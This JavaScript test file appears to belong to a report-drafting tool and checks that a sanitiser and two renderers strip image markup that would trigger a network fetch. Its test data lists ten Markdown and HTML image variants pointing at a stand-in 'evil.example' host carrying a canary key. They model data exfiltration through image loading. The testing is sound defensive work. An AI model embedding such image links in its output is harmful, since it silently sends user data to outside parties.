import { parseDraft } from "../../src/check/draft.js";
import { fetches, quietDraft } from "../../src/report/quiet.js";
import { renderReport } from "../../src/report/render.js";
import { renderStyled } from "../../src/report/styled.js";

const SOURCE = {
  id: "S1",
  title: "Towers",
  uri: "file:///towers.md",
  sha256: "a".repeat(64),
  fetchedAt: "2026-11-01T00:00:00Z",
};
const EVIL = "https://evil.example/?key=canary";

const IMAGES = [
  `![a tower](${EVIL})`,
  `![a tower](<${EVIL}> "title")`,
  `![a tower][t]\n\n[t]: ${EVIL}`,
  `![t]\n\n[t]: ${EVIL}`,
  `[![a tower](${EVIL})](https://fine.example/)`,
  `![a ![b](${EVIL}) tower](${EVIL})`,
  `!<!-- -->[a tower](${EVIL})`,
  `![S1](${EVIL})`,
  `<img src="${EVIL}">`,
  `<picture><source srcset="${EVIL}"></picture>`,
];

describe("what a draft would have fetched where it is shown", () => {
  it.each(IMAGES)("is in no report and no draft: %s", (image) => {
    const draft = `# Towers\n\nIt is 19 metres high [S1].\n\n${image} stands there.\n`;
    expect(fetches(parseDraft(quietDraft(draft)))).toBe(false);
    for (const render of [() => renderReport(draft, [SOURCE]), () => renderStyled(draft, [SOURCE], "apa")]) {
      let report = "";
      try {
        report = render();
      } catch (error) {
        expect(error).toMatchObject({ name: "EvidenceError", code: "invalid_input" });
      }
      expect(fetches(parseDraft(report))).toBe(false);
    }
  });

  it("is its words, and everything else stays", () => {
    const draft = `# Towers\n\nSee [this](https://fine.example/) and ![the tower](${EVIL}) [S1].\n`;
    expect(quietDraft(draft)).toBe("# Towers\n\nSee [this](https://fine.example/) and the tower [S1].\n");
    expect(renderReport(draft, [SOURCE])).toContain("See [this](https://fine.example/) and the tower [1].");
    const cited = `# Towers\n\n![The tower, a [S1] *ruin*](${EVIL}) stands.\n`;
    expect(quietDraft(cited)).toBe("# Towers\n\nThe tower, a [S1] \\*ruin\\* stands.\n".replace(/\\\*/g, ""));
    expect(renderReport(cited, [SOURCE])).toContain("The tower, a [1] ruin stands.");
    expect(quietDraft("a  \n\n\nb `![x](y)`")).toBe("a  \n\n\nb `![x](y)`");
  });
});
